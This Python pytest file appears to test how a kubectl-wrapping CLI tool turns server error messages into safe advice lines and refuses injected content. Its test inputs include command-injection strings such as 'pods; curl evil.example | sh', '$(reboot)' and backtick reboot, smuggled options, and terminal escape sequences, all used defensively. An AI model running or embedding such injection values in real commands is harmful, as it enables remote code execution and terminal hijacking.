"""What kubectl says on its way out: in a sentence, whatever an API server, a webhook or a proxy has put into it."""

from pathlib import Path

import pytest
from click.testing import CliRunner

from slipway.cli.kubectl import refusal
from slipway.guard.printable import STEERS
from slipway.program import main
from tests.cli.speaking import kubectl_says, script

FORBIDDEN = 'Error from server (Forbidden): {} is forbidden: User "u" cannot {} resource "{}" in API group "{}" {}'
IN = 'in the namespace "team-a"'


def forbidden(verb: str = "list", resource: str = "pods", group: str = "", where: str = IN) -> str:
    return FORBIDDEN.format(resource, verb, resource, group, where)


@pytest.mark.parametrize(
    ("said", "asks"),
    [
        (forbidden(), "kubectl auth can-i list pods -n team-a"),
        (forbidden(where="at the cluster scope"), "kubectl auth can-i list pods -A"),
        (forbidden("patch", "modeldeployments", "serving.slipway.dev"),
         "kubectl auth can-i patch modeldeployments.serving.slipway.dev -n team-a"),
        (forbidden("get", "pods/log"), "kubectl auth can-i get pods --subresource=log -n team-a"),
        (forbidden("get", "modeldeployments", "serving.slipway.dev").replace(" is", ' "churn" is', 1),
         "kubectl auth can-i get modeldeployments.serving.slipway.dev/churn -n team-a"),
        (forbidden("get").replace(" is", ' "churn-1-0" is', 1), "kubectl auth can-i get pods -n team-a"),
    ],
)  # fmt: skip
def test_the_right_that_is_lacking_is_asked_for_by_a_line_to_copy(said: str, asks: str) -> None:
    assert str(refusal(said)).endswith(f"this says when you have it: {asks}")


LOGGED = (
    'E1130 20:49:31.907923    8431 memcache.go:265] "Unhandled Error" err="couldn\'t get current server API group"\n'
)
SEE = "see --context, and kubectl cluster-info"
CONTEXTS = "kubectl config get-contexts shows what there is"
REFUSED = "The connection to the server localhost:8080 was refused - did you specify the right host or port?\n"


@pytest.mark.parametrize(
    ("said", "told"),
    [
        (LOGGED * 7 + REFUSED, f"the cluster does not answer: {REFUSED.strip()}; {SEE}"),
        (REFUSED + LOGGED, f"the cluster does not answer: {REFUSED.strip()}; {SEE}"),
        ("W0101 00:00:00.000001       1 loader.go:1] old\nerror: E1 is no kind\n", "kubectl: E1 is no kind"),
        ('error: context "x" does not exist\n',
         f'kubectl: context "x" does not exist; {CONTEXTS}'),
        ("Error in configuration: context was not found for specified context: x\n",
         f"kubectl: Error in configuration: context was not found for specified context: x; {CONTEXTS}"),
    ],
)  # fmt: skip
def test_the_sentence_is_what_kubectl_ends_with_and_not_its_log(said: str, told: str) -> None:
    assert str(refusal(said)) == told


def test_a_log_is_said_where_there_is_nothing_beside_it() -> None:
    assert "couldn't get current server API group" in str(refusal(LOGGED))


@pytest.mark.parametrize(
    "said",
    [
        forbidden("list;reboot"),
        forbidden(resource="pods; curl evil.example | sh"),
        forbidden(resource="$(reboot)"),
        forbidden(resource="--kubeconfig=x"),
        forbidden(resource="pods\n"),
        forbidden(group="`reboot`"),
        forbidden(resource="pods/log;reboot"),
        forbidden(where='in the namespace "a; reboot"'),
        forbidden(where='in the namespace "-A"'),
        forbidden(resource="p\u200bods"),
    ],
)
def test_words_that_no_cluster_has_are_no_advice(said: str) -> None:
    assert "can-i" not in str(refusal(said))


@pytest.mark.parametrize(
    "said", [forbidden(resource="pods\x1b[2J"), "error: \x1b]0;owned\x07\u202egpj", "a\r\nb\x9b2J"]
)
@pytest.mark.parametrize("words", [("list",), ("get", "churn"), ("get", "churn", "-w"), ("top",), ("console",)])
def test_nothing_in_a_refusal_steers_a_terminal(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, said: str, words: tuple[str, ...]
) -> None:
    kubectl_says(monkeypatch, tmp_path, err=said, code=1)
    told = CliRunner().invoke(main, words, catch_exceptions=False)
    assert told.exit_code == 1
    assert STEERS.findall(told.output.replace("\n", "")) == []


@pytest.mark.parametrize("words", [("get", "churn"), ("why", "churn"), ("version",)])
def test_nor_where_a_part_alone_is_refused(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, words: tuple[str, ...]
) -> None:
    (tmp_path / "model").write_text('{"metadata": {"name": "churn"}}')
    refused = "printf 'error: \\033[2Jowned' >&2; exit 1"
    text = f'case "$*" in *modeldeployments*|*raw*) cat "{tmp_path}/model";; *) {refused};; esac\n'
    script(monkeypatch, tmp_path, text)
    told = CliRunner().invoke(main, words, catch_exceptions=False)
    assert "not shown: kubectl: \\x1b[2Jowned" in told.output
    assert STEERS.findall(told.output.replace("\n", "")) == []


@pytest.mark.parametrize("name", ["--all-namespaces", "-A", "a,b=c", "", "a b", "\x1b[2J"])
@pytest.mark.parametrize("verb", ["get", "why", "history", "logs", "wait", "abort"])
def test_what_is_no_name_is_given_to_nobody(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, verb: str, name: str
) -> None:
    script(monkeypatch, tmp_path, f'touch "{tmp_path}/asked"\n')
    told = CliRunner().invoke(main, [verb, "--", name])
    assert (told.exit_code, "is no name of a ModelDeployment" in told.output) == (2, True)
    assert not (tmp_path / "asked").exists()
    assert STEERS.findall(told.output.replace("\n", "")) == []
